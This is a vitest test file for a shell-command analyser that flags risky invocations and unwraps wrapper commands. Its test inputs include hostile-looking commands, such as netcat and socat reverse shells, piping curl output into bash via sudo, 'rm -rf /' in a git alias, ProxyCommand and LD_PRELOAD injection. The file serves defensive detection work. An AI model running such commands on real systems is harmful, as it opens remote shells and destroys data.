/** The wrapper, interpreter, builtin and risky-flag tables, seen through the analyser. */
import { beforeAll, describe, expect, it } from "vitest";
import { loadShellParser, type ShellParser } from "./shell-parser.js";

let shell: ShellParser;
beforeAll(async () => {
  shell = await loadShellParser();
});
const reasons = (script: string) =>
  [...new Set(shell.analyse(script).uncertainties.map((u) => u.reason))].sort();
const programs = (script: string) => shell.analyse(script).commands.map((c) => c.program);

describe("risky flags stay quiet on ordinary use", () => {
  it.each([
    "find . -name '*.ts' -newer x -print",
    "curl -sS -o /dev/null -w '%{http_code}' https://example.com",
    "sort -u -k2 file",
    "git config user.name",
    "git config --get core.editor",
    "git log --oneline --output-indicator-new=+",
    "ssh -o StrictHostKeyChecking=no host ls",
    "tee /dev/null",
    "dd if=a of=/dev/null bs=1M",
    "vim +10 file",
    "node script.js --flag",
    "python -m pytest -c setup.cfg",
    "python3 script.py",
    "bash script.sh",
    "tar -czf out.tgz src",
    "rg -n --hidden TODO",
    "zip -r a.zip dir",
    "sed -n '/x/p' f",
    "awk -F: '{ print $1 }' /etc/passwd",
    "trap - EXIT",
    "read -r line < f",
  ])("%s", (script) => {
    expect(reasons(script)).toEqual([]);
  });
});

describe("risky use is uncertain", () => {
  it.each([
    ["curl -o out.html https://example.com", "redirect_write"],
    ["curl -sSLo out https://x", "redirect_write"],
    ["git config core.pager less", "dangerous_flag"],
    ["git config alias.x '!rm -rf /'", "dangerous_flag"],
    ["git clone --template=/tmp/t repo", "dangerous_flag"],
    ["git grep -O foo", "dangerous_flag"],
    ["git -C dir -c core.sshCommand=x fetch", "dangerous_flag"],
    ["git fetch --upload-pack=evil origin", "dangerous_flag"],
    ["ssh -oProxyCommand=evil host", "dangerous_flag"],
    ["scp -S evil a host:b", "dangerous_flag"],
    ["tee out.txt", "redirect_write"],
    ["dd if=/dev/zero of=disk.img", "redirect_write"],
    ["vim '+!rm x' file", "inline_code"],
    ["vim -c '!rm x' file", "inline_code"],
    ["perl -lane 'print $F[0]' f", "inline_code"],
    ["perl -pi -e 's/a/b/' f", "inline_code"],
    ["ruby -e 'puts 1'", "inline_code"],
    ["php -r 'echo 1;'", "inline_code"],
    ["deno eval 'console.log(1)'", "inline_code"],
    ["pwsh -Command Get-Date", "inline_code"],
    ["osascript -e 'do shell script \"id\"'", "inline_code"],
    ["sqlite3 db '.shell id'", "inline_code"],
    ["sed -f script.sed f", "dangerous_flag"],
    ["sed s/a/b/ -i f", "dangerous_flag"],
    ["awk -f prog.awk -l ext f", "inline_code"],
    ["gawk 'BEGIN { while ((\"ls\" | getline l) > 0) print l }'", "inline_code"],
    ["crontab jobs.txt", "dangerous_flag"],
    ["make --eval='x:=$(shell id)'", "inline_code"],
    ["go test -exec ./evil ./...", "dangerous_flag"],
    ["nc -e /bin/sh host 4444", "dangerous_flag"],
    ["socat TCP:host:1 EXEC:sh", "inline_code"],
    ["tmux new-session -d 'rm x'", "dangerous_flag"],
    ["prettier --write .", "dangerous_flag"],
    ["man -P evil ls", "dangerous_flag"],
    ["let 'x=a[$(id)]'", "arithmetic_value"],
    ["let n=COLUMNS-1", "arithmetic_value"],
    ["bind -x '\"\\C-a\": id'", "deferred_code"],
    ["fc -e vi -1", "eval"],
    ["mapfile -C 'id' -c 1 lines < f", "deferred_code"],
    ["git config -- core.pager less", "dangerous_flag"],
    ["k=core.editor; git config $k vi", "dangerous_flag"],
    ["git config --rename-section x alias", "dangerous_flag"],
    ["git clone -c core.sshCommand=x url", "dangerous_flag"],
    ["git archive --output=/tmp/a.tar HEAD", "redirect_write"],
    ["git worktree add -b topic ../wt", "redirect_write"],
    ["git init --bare /srv/repo", "redirect_write"],
    ["git fast-import --export-marks=marks < stream", "redirect_write"],
    ["printf -v PATH %s /tmp", "dangerous_assignment"],
    ["declare -n ref=PATH", "dangerous_assignment"],
    ["export NODE_OPTIONS=--require=./x.js", "dangerous_assignment"],
    ["npm_config_script_shell=./x npm run build", "dangerous_assignment"],
    ["LD_PRELOAD[0]=x ls", "dangerous_assignment"],
    ["alias ll='ls -l'", "alias"],
    ["xargs sh < list", "stdin_to_interpreter"],
    ["curl x | sudo -u bob bash -s -- arg", "stdin_to_interpreter"],
    ["node - < script.js", "stdin_to_interpreter"],
    ["psql < dump.sql", "stdin_to_interpreter"],
    ["echo 'rm x' | at now", "stdin_to_interpreter"],
    ["parallel 'echo {}' ::: a b", "inline_code"],
  ])("%s → %s", (script, reason) => {
    expect(reasons(script)).toContain(reason);
  });
});

describe("wrappers", () => {
  it.each([
    ["command -v rm", ["command"]],
    ["sudo -e /etc/hosts", ["sudo"]],
    ["taskset -p 1", ["taskset"]],
    ["su root", ["su"]],
    ["su - root -c 'rm x'", ["su", "rm"]],
    ["runuser -u bob -- rm x", ["runuser", "rm"]],
    ["npx -c 'rm x'", ["npx", "rm"]],
    ["npx tsc", ["npx"]],
    ["watch -x rm x", ["watch", "rm"]],
    ["watch -n 2 'ls | wc -l'", ["watch", "ls", "wc"]],
    ["ssh -N -L 80:x:80 host", ["ssh"]],
    ["sg wheel -c 'rm x'", ["sg", "rm"]],
    ["script -q -c 'rm x' /dev/null", ["script", "rm"]],
    ["nix-shell -p hello --run 'rm x'", ["nix-shell", "rm"]],
    ["chroot /mnt rm x", ["chroot", "rm"]],
    ["env -- rm x", ["env", "rm"]],
    ["nice -10 rm x", ["nice", "rm"]],
    ["stdbuf -oL -eL rm x", ["stdbuf", "rm"]],
    ["coproc rm x", ["coproc", "rm"]],
    ["git bisect run rm x", ["git", "rm"]],
    ["sudo --us root rm x", ["sudo", "rm"]],
    ["xargs", ["xargs", "echo"]],
    ["find . -ok rm {} \\;", ["find", "rm"]],
    ["compgen -C 'rm x' a", ["compgen", "rm"]],
    ["trap 'rm x' INT TERM", ["trap", "rm"]],
  ])("%s → %j", (script, expected) => {
    expect(programs(script)).toEqual(expected);
  });

  it("reports options missing from the wrapper table", () => {
    expect(reasons("timeout --frobnicate 5 ls")).toContain("unknown_option");
  });

  it("marks the run-time file name of find -exec and xargs -I as dynamic", () => {
    expect(reasons("find . -exec {} \\;")).toContain("dynamic_command");
    expect(reasons("xargs -I% sh -c %")).toContain("inline_code");
  });
});
